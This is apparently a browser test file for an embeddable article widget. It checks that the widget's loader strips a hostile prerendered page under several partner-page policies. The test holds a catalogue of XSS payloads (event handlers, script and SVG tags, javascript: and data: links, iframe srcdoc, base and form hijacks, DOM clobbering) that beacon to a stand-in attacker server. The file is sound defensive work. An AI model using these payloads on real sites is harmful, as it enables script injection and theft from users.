// Content can change words, never run code. A widget host that served a hostile
// prerendered page (a compromised host, under a partner who pins embed.js by its hash)
// gets its words shown, and nothing else: on partner pages with no policy, with a
// strict CSP and with Trusted Types enforced, through the browser's HTML Sanitizer API
// and through the loader's own walk where the browser has none, no script of the page
// runs, no handler, style, form, base or foreign markup is left in the DOM, and no URL
// but the allow-list's. The widget's host is a copy of the built site served by this
// test, its article's pages replaced; the partner's pages and the attacker's beacon
// are servers of its own on loopback, other origins than the widget's.
import { readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { ALS_QUESTION, launchBrowser, newPage } from './harness.mjs';
import { serveSiteCopy, stopSiteCopies } from './site-copy.mjs';

const SLUG = 'als-primary-treatment';
// The element every prerendered page starts with, which the loader looks for.
const ROOT = '<div class="article-widget-root" data-prerendered="">';
const BODY = '<div part="body" class="article-body">';

let browser;
let site;
let partner;
let PARTNER;
let attacker;
let ATTACKER;
let beacons = [];

/** Script that, if it ever runs, says so twice: in a global, and to the attacker. */
const run = (what) =>
  `(window.__ran=window.__ran||[]).push('${what}');new Image().src='${ATTACKER}/beacon/${encodeURIComponent(what)}'`;

/** Every way into a page the issue names, and a few more, each marked by what it is. */
function hostileMarkup() {
  return [
    `<img src="missing.png" onerror="${run('img onerror')}" alt="">`,
    `<script>${run('script')}</script>`,
    `<svg onload="${run('svg onload')}"><script>${run('svg script')}</script>` +
      `<a href="javascript:${run('svg link')}"><text y="20">svg link</text></a></svg>`,
    `<math><mtext><a href="javascript:${run('math link')}">math link</a></mtext></math>`,
    `<p><a class="hostile-link" href="javascript:${run('javascript link')}">javascript link</a> ` +
      `<a class="hostile-link" href=" java&#9;script:${run('disguised link')}">disguised link</a> ` +
      `<a href="data:text/html,<script>${run('data link')}</script>">data link</a></p>`,
    '<style>:host { display: none !important } * { display: none !important }</style>',
    '<link rel="stylesheet" href="data:text/css,*{display:none}">',
    '<div style="position: fixed; inset: 0; background: #fff; z-index: 2147483647">cover</div>',
    `<form action="${ATTACKER}/steal" method="post"><input name="q" value="secret"><button>Send</button></form>`,
    `<base href="${ATTACKER}/">`,
    `<iframe srcdoc="<script>${run('iframe').replaceAll("'", '&#39;')}</script>"></iframe>`,
    `<object data="${ATTACKER}/object"></object><embed src="${ATTACKER}/embed">`,
    `<details open ontoggle="${run('details ontoggle')}"><summary>more</summary>hidden words</details>`,
    `<input autofocus onfocus="${run('input onfocus')}">`,
    `<template><img src="x" onerror="${run('template')}"></template>`,
    `<noscript><img src="x" onerror="${run('noscript')}"></noscript>`,
    `<meta http-equiv="refresh" content="0;url=javascript:${run('meta')}">`,
    // DOM clobbering: names of the document's and the loader's own.
    '<img id="currentScript" name="ArticleWidget" src="clobber.png" alt="">',
    '<a id="getElementById" name="querySelector">clobbering link</a>',
    // A form shadows its own methods by its controls' names: the walk reads it through
    // the prototypes all the same.
    '<form name="createElement"><input name="attributes"><input name="localName"><input name="getAttributeNames">' +
      '<input name="firstChild"><input name="nextSibling"><input name="removeChild"><input name="nodeType"></form>',
    `<p class="hostile-words" onclick="${run('p onclick')}">Words a host may change.</p>`,
  ].join('');
}

/** The build's own page for `slug`, with the hostile markup in and around it. */
function hostilePage(built) {
  assert.ok(built.startsWith(ROOT) && built.includes(BODY), 'the build wrote the page this test expects');
  const root = ROOT.replace('>', ` style="display: none" onmouseover="${run('root onmouseover')}">`);
  return (
    `<base href="${ATTACKER}/"><style>* { display: none }</style>` +
    built.replace(ROOT, root).replace(BODY, BODY + hostileMarkup()) +
    hostileMarkup()
  );
}

before(async () => {
  browser = await launchBrowser();
  attacker = createServer((request, response) => {
    beacons.push(request.url);
    response.writeHead(404, { 'access-control-allow-origin': '*' });
    response.end();
  });
  await new Promise((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  ATTACKER = `http://127.0.0.1:${attacker.address().port}`;
  site = await serveSiteCopy({ partners: true });
  const folder = join(site.dir, 'articles', SLUG);
  for (const file of readdirSync(folder).filter((name) => name.endsWith('.html'))) {
    const path = join(folder, file);
    if (file === 'index.html') continue;
    writeFileSync(path, hostilePage(readFileSync(path, 'utf8')));
    rmSync(`${path}.br`, { force: true });
    rmSync(`${path}.gz`, { force: true });
  }
  partner = createServer((request, response) => {
    const name = new URL(request.url, 'http://partner').pathname.slice(1);
    if (!/^[a-z-]+\.html$/.test(name)) {
      response.writeHead(404);
      response.end();
      return;
    }
    const html = readFileSync(new URL(`./partner/${name}`, import.meta.url), 'utf8').replaceAll('{{WIDGET_URL}}', site.url);
    response.writeHead(200, { 'content-type': 'text/html' });
    response.end(html);
  });
  await new Promise((resolve) => partner.listen(0, '127.0.0.1', resolve));
  PARTNER = `http://127.0.0.1:${partner.address().port}`;
});
after(async () => {
  await browser?.close();
  stopSiteCopies();
  partner?.close();
  attacker?.close();
});

/** What is inside the widget's shadow root, and what of the page the markup could name. */
function inspect() {
  const host = Document.prototype.querySelector.call(document, 'article-widget');
  const shadow = host.shadowRoot;
  const elements = [...shadow.querySelectorAll('*')];
  const names = elements.flatMap((element) => ['id', 'name'].map((kind) => element.getAttribute(kind)).filter(Boolean));
  const heading = Document.prototype.querySelector.call(document, 'main > h1');
  // The reader's clicks scrolled the page: its top, where the heading is, comes back.
  window.scrollTo(0, 0);
  const box = heading.getBoundingClientRect();
  return {
    ran: window.__ran ?? [],
    tags: [...new Set(elements.map((element) => element.localName))].sort(),
    handlers: elements.flatMap((element) =>
      element.getAttributeNames().filter((name) => /^on/i.test(name)).map((name) => `${element.localName} ${name}`),
    ),
    styled: elements.filter((element) => element.hasAttribute('style')).map((element) => element.localName),
    urls: elements.flatMap((element) =>
      ['href', 'src', 'action', 'formaction', 'data', 'srcdoc'].map((name) => element.getAttribute(name)).filter((value) => value !== null),
    ),
    // Markup that clobbers makes a name of the window or the document an element.
    clobbered: names.filter((name) => window[name] instanceof Element || document[name] instanceof Element),
    question: shadow.querySelector('[data-prerendered] h1')?.textContent,
    questionShown: shadow.querySelector('[data-prerendered] h1')?.checkVisibility() ?? false,
    words: shadow.querySelector('.hostile-words')?.textContent ?? null,
    // The partner's own heading is not covered by anything of the widget's.
    headingOnTop: document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2) === heading,
    sanitizerCalls: window.__setHTMLCalls ?? 0,
  };
}

const PAGES = [
  ['script-tag.html', 'with no policy'],
  ['csp.html', 'with a strict CSP'],
  ['trusted-types.html', 'with Trusted Types enforced and no policy allowed'],
];
const PATHS = [
  // The browser's own sanitizer, counted on its way through.
  [
    "the browser's HTML Sanitizer API",
    () => {
      const own = Element.prototype.setHTML;
      if (typeof own !== 'function') return;
      Element.prototype.setHTML = function setHTML(...args) {
        window.__setHTMLCalls = (window.__setHTMLCalls ?? 0) + 1;
        return own.apply(this, args);
      };
    },
  ],
  ["the loader's own walk, where the browser has no sanitizer", () => delete Element.prototype.setHTML],
];

for (const [file, policy] of PAGES) {
  for (const [path, initScript] of PATHS) {
    test(`a hostile prerendered page on a partner page ${policy}, through ${path}: its words show, nothing of it runs or stays armed`, async () => {
      // The console says that a policy refused the page's handlers and styles (Chromium
      // checks them as the inert document parses them, before they go) and that its
      // images are not found: a page, not an error of the loader's.
      const { context, page, pageErrors } = await newPage(browser);
      try {
        await context.addInitScript(initScript);
        beacons = [];
        // The Wasm held back: the prerendered page stays what the reader sees.
        let releaseWasm;
        const wasmHeld = new Promise((resolve) => (releaseWasm = resolve));
        await page.route('**/*_bg.wasm', async (route) => {
          await wasmHeld;
          await route.abort();
        });
        await page.goto(`${PARTNER}/${file}`);
        await page.locator('article-widget [data-prerendered] h1').waitFor({ state: 'attached' });
        const native = await page.evaluate(() => typeof Element.prototype.setHTML === 'function');
        // A reader at work on it: hovering, clicking its links and its words (which a
        // page left hidden does not let them do).
        const reader = { force: true, timeout: 2000 };
        await page.locator('article-widget [data-prerendered]').hover(reader).catch(() => {});
        for (const link of await page.locator('article-widget a.hostile-link').all()) await link.click(reader).catch(() => {});
        await page.locator('article-widget .hostile-words').click(reader).catch(() => {});
        // Every image of the page has loaded or failed, its handlers fired if any stayed.
        await page.waitForFunction(() =>
          [...Document.prototype.querySelector.call(document, 'article-widget').shadowRoot.querySelectorAll('img')].every(
            (image) => image.complete,
          ),
        );
        await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 200))));
        const found = await page.evaluate(inspect);
        releaseWasm();

        assert.deepEqual(found.ran, [], 'no script of the hostile page ran');
        assert.deepEqual(beacons, [], 'nothing called the attacker');
        assert.deepEqual(found.handlers, [], 'no handler is left');
        for (const tag of ['script', 'style', 'link', 'base', 'form', 'svg', 'math', 'iframe', 'object', 'embed', 'template', 'noscript', 'meta']) {
          assert.ok(!found.tags.includes(tag), `no ${tag} is left: ${found.tags}`);
        }
        assert.deepEqual(found.styled, [], 'no style attribute is left');
        const refused = found.urls.filter((url) => /^[a-z][a-z\d+.-]*:/i.test(url.replace(/[\0-\x20\x7f]/g, '')) && !/^(https?|mailto|tel):/i.test(url));
        assert.deepEqual(refused, [], 'every URL left is one the allow-list lets through');
        assert.deepEqual(found.clobbered, [], 'no name of the window or the document is an element of the widget');
        assert.equal(found.question, ALS_QUESTION);
        assert.ok(found.questionShown, 'the article shows');
        assert.equal(found.words, 'Words a host may change.', 'the host can change words');
        assert.ok(found.headingOnTop, "nothing covers the partner's page");
        assert.equal(found.sanitizerCalls > 0, native, 'the HTML Sanitizer API parsed the page where the browser has it, only there');
        assert.deepEqual(pageErrors, []);
      } finally {
        await context.close();
      }
    });
  }
}
